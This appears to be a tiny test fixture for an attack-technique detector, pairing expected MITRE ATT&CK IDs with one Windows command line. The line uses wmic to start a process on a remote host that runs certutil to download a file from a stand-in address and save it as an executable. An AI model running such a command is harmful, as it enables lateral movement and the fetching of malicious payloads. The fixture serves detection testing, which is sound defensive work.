# expect: T1047 T1059.003 T1105
wmic /node:srv01 process call create "cmd /c certutil -urlcache -f http://198.51.100.1/p C:\p.exe"
